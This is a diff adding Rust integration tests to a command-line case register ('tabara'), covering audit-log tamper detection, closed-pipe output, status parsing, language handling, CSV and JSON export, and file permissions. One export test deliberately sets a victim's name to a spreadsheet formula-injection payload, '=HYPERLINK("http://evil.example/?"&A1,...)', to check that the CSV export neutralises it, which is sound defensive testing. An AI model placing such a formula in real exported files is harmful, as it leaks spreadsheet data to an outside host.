@@ -124,7 +124,8 @@ store_test!(demo_then_read_export_and_verify, |db| async move {
     let csv = ok(&tabara(&db, &["export", "--format", "csv"]));
     let header = csv.lines().next().unwrap();
     assert!(
-        header.starts_with("prs_Gender,") && header.contains("vic_TypeOfExploitation"),
+        header.starts_with("case_reference,case_opened_on,case_office,prs_Gender,")
+            && header.contains("vic_TypeOfExploitation"),
         "{header}"
     );
     assert!(!header.contains("prs_FirstName"));
@@ -834,3 +835,378 @@ store_test!(
         db.finish().await;
     }
 );
+
+// ================================================================ issue 10: command line
+
+store_test!(audit_verify_catches_a_cut_or_wiped_log, |db| async move {
+    ok(&tabara(&db, &["demo", "--persons", "120", "--seed", "9"]));
+    let verify = ok(&tabara(&db, &["audit", "verify"]));
+    assert!(verify.starts_with("ok, "), "{verify}");
+    let entries = db.store.audit_entries(0, 100_000).await.unwrap();
+    // Cut the last ten entries and move the head back: the chain alone looks whole.
+    let keep = &entries[entries.len() - 11];
+    raw_sql(
+        &db,
+        &format!("DELETE FROM audit_log WHERE seq > {}", keep.seq),
+    )
+    .await;
+    raw_sql(
+        &db,
+        &format!(
+            "UPDATE audit_head SET seq = {}, hash = '{}' WHERE id = 1",
+            keep.seq, keep.hash
+        ),
+    )
+    .await;
+    let cut = tabara(&db, &["audit", "verify"]);
+    assert_eq!(cut.status.code(), Some(1));
+    let text = String::from_utf8_lossy(&cut.stdout);
+    assert!(
+        text.contains(&format!("BROKEN at entry {}", keep.seq + 1))
+            && text.contains("records of kind material_movement")
+            && text.contains("entries were removed from the end"),
+        "{text}"
+    );
+    let french = tabara(&db, &["--lang", "fr", "audit", "verify"]);
+    assert!(
+        String::from_utf8_lossy(&french.stdout).contains("supprimées à la fin du journal"),
+        "{}",
+        String::from_utf8_lossy(&french.stdout)
+    );
+    // Everything wiped and the head set back to zero.
+    raw_sql(&db, "DELETE FROM audit_log").await;
+    raw_sql(
+        &db,
+        "UPDATE audit_head SET seq = 0, hash = '0000000000000000000000000000000000000000000000000000000000000000' WHERE id = 1",
+    )
+    .await;
+    let wiped = tabara(&db, &["audit", "verify"]);
+    assert_eq!(wiped.status.code(), Some(1));
+    let text = String::from_utf8_lossy(&wiped.stdout);
+    assert!(
+        text.contains("BROKEN at entry 1") && text.contains("but the log has only 0"),
+        "{text}"
+    );
+    // No head row at all: said in words, not a database error.
+    raw_sql(&db, "DELETE FROM audit_head").await;
+    let headless = tabara(&db, &["audit", "verify"]);
+    assert_eq!(headless.status.code(), Some(1));
+    let text = String::from_utf8_lossy(&headless.stdout);
+    assert!(text.contains("the chain head"), "{text}");
+    assert!(
+        !String::from_utf8_lossy(&headless.stderr).contains("database error"),
+        "{}",
+        String::from_utf8_lossy(&headless.stderr)
+    );
+    db.finish().await;
+});
+
+/// A reader that stops early: the output goes into a pipe whose reading end is already closed.
+fn into_closed_pipe(db: &TestDb, args: &[&str]) -> Output {
+    let mut child = Command::new(env!("CARGO_BIN_EXE_tabara"))
+        .arg("--database")
+        .arg(db.database_arg())
+        .args(args)
+        .env("TABARA_LANG", "en")
+        .stdout(std::process::Stdio::piped())
+        .stderr(std::process::Stdio::piped())
+        .spawn()
+        .unwrap();
+    drop(child.stdout.take());
+    child.wait_with_output().unwrap()
+}
+
+store_test!(a_closed_pipe_ends_output_quietly, |db| async move {
+    ok(&tabara(&db, &["demo", "--persons", "300", "--seed", "2"]));
+    let list: serde_json::Value = serde_json::from_str(&ok(&tabara(
+        &db,
+        &["--json", "case", "list", "--limit", "1"],
+    )))
+    .unwrap();
+    let number = list["items"][0]["number"].as_i64().unwrap().to_string();
+    for args in [
+        vec!["case", "list", "--limit", "500"],
+        vec!["--json", "case", "list", "--limit", "500"],
+        vec!["case", "show", &number],
+        vec!["audit", "log", "--limit", "2000"],
+        vec!["export", "--format", "csv"],
+        vec!["export", "--format", "json"],
+    ] {
+        let out = into_closed_pipe(&db, &args);
+        let err = String::from_utf8_lossy(&out.stderr);
+        assert_eq!(out.status.code(), Some(0), "{args:?}: {err}");
+        assert!(!err.contains("panicked"), "{args:?}: {err}");
+    }
+    db.finish().await;
+});
+
+store_test!(
+    unknown_screening_and_picklist_values_in_words,
+    |db| async move {
+        ok(&tabara(&db, &["demo", "--persons", "200", "--seed", "4"]));
+        let missing = tabara(
+            &db,
+            &[
+                "screening",
+                "explain",
+                "0190a0b0-0000-7000-8000-000000000000",
+            ],
+        );
+        assert!(!missing.status.success());
+        let err = String::from_utf8_lossy(&missing.stderr);
+        assert!(
+            err.contains("screening 0190a0b0") && err.contains("not found"),
+            "{err}"
+        );
+        assert!(!err.contains("kind-"), "{err}");
+        let french = tabara(
+            &db,
+            &[
+                "--lang",
+                "fr",
+                "screening",
+                "explain",
+                "0190a0b0-0000-7000-8000-000000000000",
+            ],
+        );
+        assert!(
+            String::from_utf8_lossy(&french.stderr).contains("introuvable"),
+            "{}",
+            String::from_utf8_lossy(&french.stderr)
+        );
+
+        // Statuses in any case, or by their label; the same cases either way.
+        let by_name = ok(&tabara(
+            &db,
+            &[
+                "--json", "case", "list", "--status", "FollowUp", "--limit", "500",
+            ],
+        ));
+        for spelling in ["followup", "follow up", "FOLLOWUP"] {
+            let other = ok(&tabara(
+                &db,
+                &[
+                    "--json", "case", "list", "--status", spelling, "--limit", "500",
+                ],
+            ));
+            assert_eq!(other, by_name, "{spelling}");
+        }
+        let active: serde_json::Value = serde_json::from_str(&ok(&tabara(
+            &db,
+            &[
+                "--json", "case", "list", "--status", "active", "--limit", "500",
+            ],
+        )))
+        .unwrap();
+        let items = active["items"].as_array().unwrap();
+        assert!(!items.is_empty());
+        assert!(items.iter().all(|i| i["status"] == "Active"), "{active}");
+        let french_label = ok(&tabara(
+            &db,
+            &[
+                "--lang",
+                "fr",
+                "--json",
+                "case",
+                "list",
+                "--status",
+                "Clôturé",
+                "--limit",
+                "500",
+            ],
+        ));
+        let closed = ok(&tabara(
+            &db,
+            &[
+                "--json", "case", "list", "--status", "Closed", "--limit", "500",
+            ],
+        ));
+        assert_eq!(french_label, closed, "the label in the user's language");
+        let bad = tabara(&db, &["case", "list", "--status", "open"]);
+        assert!(!bad.status.success());
+        let err = String::from_utf8_lossy(&bad.stderr);
+        assert!(
+            err.contains("--status") && err.contains("Active, FollowUp, Closed, ClosedReferred"),
+            "{err}"
+        );
+        db.finish().await;
+    }
+);
+
+#[test]
+fn an_unsupported_language_is_refused_when_asked_for() {
+    let run = |args: &[&str], env_lang: Option<&str>| {
+        let mut c = Command::new(env!("CARGO_BIN_EXE_tabara"));
+        c.args(args).env_remove("TABARA_LANG").env("LANG", "C");
+        if let Some(l) = env_lang {
+            c.env("TABARA_LANG", l);
+        }
+        c.output().unwrap()
+    };
+    let out = run(&["--lang", "de", "case", "show", "TBR-abc"], None);
+    assert_eq!(out.status.code(), Some(2));
+    let err = String::from_utf8_lossy(&out.stderr);
+    assert!(err.contains("'de'") && err.contains("en, fr, rn"), "{err}");
+    // From the environment, an unknown language falls back to English.
+    let out = run(&["case", "show", "TBR-abc"], Some("de"));
+    let err = String::from_utf8_lossy(&out.stderr);
+    assert!(err.contains("is not a case reference"), "{err}");
+    let out = run(&["--lang", "fr-BI", "case", "show", "TBR-abc"], None);
+    assert!(
+        !String::from_utf8_lossy(&out.stderr).contains("n'est pas une langue"),
+        "a regional French tag is French"
+    );
+}
+
+store_test!(
+    export_carries_the_case_and_neutralises_formulas,
+    |db| async move {
+        use tabara_store::Actor;
+        ok(&tabara(&db, &["demo", "--persons", "150", "--seed", "8"]));
+        let csv = ok(&tabara(&db, &["export", "--format", "csv"]));
+        let mut reader = csv::Reader::from_reader(csv.as_bytes());
+        let header: Vec<String> = reader.headers().unwrap().iter().map(String::from).collect();
+        assert_eq!(
+            &header[..4],
+            [
+                "case_reference",
+                "case_opened_on",
+                "case_office",
+                "prs_Gender"
+            ]
+        );
+        let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.unwrap()).collect();
+        assert!(
+            rows.iter()
+                .all(|r| r[0].starts_with("TBR-") && r[1].len() == 10)
+        );
+        assert!(rows.iter().any(|r| !r[2].is_empty()), "offices are named");
+        let json: serde_json::Value =
+            serde_json::from_str(&ok(&tabara(&db, &["export", "--format", "json"]))).unwrap();
+        let first = &json.as_array().unwrap()[0];
+        assert_eq!(first["case_reference"], rows[0][0].to_string());
+        assert_eq!(first["case_opened_on"], rows[0][1].to_string());
+
+        // A victim named like a spreadsheet formula.
+        let list: serde_json::Value = serde_json::from_str(&ok(&tabara(
+            &db,
+            &["--json", "case", "list", "--limit", "1"],
+        )))
+        .unwrap();
+        let number = list["items"][0]["number"].as_i64().unwrap();
+        let case = db.store.case_by_number(number).await.unwrap();
+        let victim = db
+            .store
+            .case_persons(case.id)
+            .await
+            .unwrap()
+            .into_iter()
+            .find(|p| matches!(p.involvement, tabara_core::records::Involvement::Victim(_)))
+            .unwrap();
+        let actor = Actor::system("test");
+        let (mut identity, version) = db
+            .store
+            .read_identity(&actor, victim.person.id)
+            .await
+            .unwrap();
+        identity.first_name = Some("=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")".into());
+        identity.second_name = Some("@SUM(1+1)".into());
+        db.store
+            .update_identity(&actor, victim.person.id, version, &identity)
+            .await
+            .unwrap();
+        let csv = ok(&tabara(
+            &db,
+            &["export", "--format", "csv", "--with-identity"],
+        ));
+        let mut reader = csv::Reader::from_reader(csv.as_bytes());
+        let header = reader.headers().unwrap().clone();
+        let first = header.iter().position(|h| h == "prs_FirstName").unwrap();
+        let second = header.iter().position(|h| h == "prs_SecondName").unwrap();
+        let cells: Vec<(String, String)> = reader
+            .records()
+            .map(|r| r.unwrap())
+            .map(|r| (r[first].to_string(), r[second].to_string()))
+            .collect();
+        assert!(cells.contains(&(
+            "'=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")".to_string(),
+            "'@SUM(1+1)".to_string()
+        )));
+        for (a, b) in &cells {
+            for cell in [a, b] {
+                assert!(
+                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                    "{cell}"
+                );
+            }
+        }
+        // JSON is data for programs, not a spreadsheet: the name as it is.
+        let json = ok(&tabara(
+            &db,
+            &["export", "--format", "json", "--with-identity"],
+        ));
+        assert!(json.contains("\"=HYPERLINK("), "{}", &json[..200]);
+        db.finish().await;
+    }
+);
+
+#[cfg(unix)]
+#[test]
+fn a_new_register_file_is_readable_by_its_owner_only() {
+    use std::os::unix::fs::PermissionsExt;
+    let dir = std::env::temp_dir().join(format!("tabara-cli-mode-{}", std::process::id()));
+    std::fs::create_dir_all(&dir).unwrap();
+    let db = dir.join("register.db");
+    let out = Command::new(env!("CARGO_BIN_EXE_tabara"))
+        .arg("--database")
+        .arg(&db)
+        .args(["demo", "--persons", "20"])
+        .env("TABARA_LANG", "en")
+        .output()
+        .unwrap();
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    let mut seen = 0;
+    for name in ["register.db", "register.db-wal", "register.db-shm"] {
+        if let Ok(meta) = std::fs::metadata(dir.join(name)) {
+            assert_eq!(meta.permissions().mode() & 0o777, 0o600, "{name}");
+            seen += 1;
+        }
+    }
+    assert!(seen >= 1);
+    std::fs::remove_dir_all(&dir).unwrap();
+}
+
+/// Every kind of record the store names in its errors (not found, changed by someone else,
+/// already exists) has its label in the catalogue, so no message shows a raw `kind-…` key.
+#[test]
+fn every_kind_the_store_names_has_a_label() {
+    let src = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../store/src");
+    let catalogue = tabara_i18n::catalogue();
+    let mut kinds = std::collections::BTreeSet::new();
+    for entry in std::fs::read_dir(&src).unwrap() {
+        let text = std::fs::read_to_string(entry.unwrap().path()).unwrap();
+        for marker in [
+            "kind: \"",
+            "what: \"",
+            "check_version(\"",
+            "ensure_updated(done, \"",
+            "ensure_updated(updated, \"",
+        ] {
+            for rest in text.split(marker).skip(1) {
+                kinds.insert(rest.split('"').next().unwrap().to_string());
+            }
+        }
+    }
+    assert!(kinds.contains("screening") && kinds.len() > 8, "{kinds:?}");
+    for kind in &kinds {
+        let key = format!("kind-{}", kind.replace(' ', "-"));
+        assert!(
+            catalogue.has(tabara_core::Lang::En, &key),
+            "{key} missing from the catalogue"
+        );
+    }
+}
